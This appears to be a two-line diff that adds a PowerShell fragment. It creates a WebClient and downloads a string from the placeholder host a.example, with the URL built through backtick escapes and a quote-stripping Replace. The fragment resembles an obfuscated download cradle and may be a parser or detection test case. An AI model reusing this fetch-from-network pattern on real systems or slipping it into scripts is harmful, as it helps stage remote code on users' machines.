@@ -1,0 +1,2 @@
+$wc = New-Object System.Net.WebClient
+$wc.DownloadString("http://a.example/`$x`"y".Replace('"',""))
